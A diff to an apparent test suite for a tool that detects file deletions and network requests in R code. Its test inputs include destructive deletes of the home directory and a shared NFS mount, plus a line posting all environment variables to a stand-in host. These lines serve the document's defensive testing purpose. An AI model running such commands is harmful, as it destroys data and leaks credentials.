@@ -46,6 +46,12 @@ def test_r_deletes_follow_their_recursive_option() -> None:
     assert effects("r", 'unlink(path.expand("~"), recursive = TRUE)').deletes[0][0] == HOME
 
 
+def test_r_deletes_take_a_whole_vector() -> None:
+    assert [d[0] for d in effects("r", 'unlink(c("a.csv", "b.csv"))').deletes] == ["a.csv", "b.csv"]
+    listed = effects("r", 'file.remove(list.files("/mnt/nfs/shared", recursive = TRUE, full.names = TRUE))')
+    assert listed.deletes == [("/mnt/nfs/shared/**/*", False, "os.remove")]
+
+
 def test_r_requests_carry_what_the_program_read_and_the_environment() -> None:
     found = effects("r", 'httr::POST("https://c.example/e", body = as.list(Sys.getenv()), encode = "json")')
     assert found.environment and found.posted == ["https://c.example/e"]
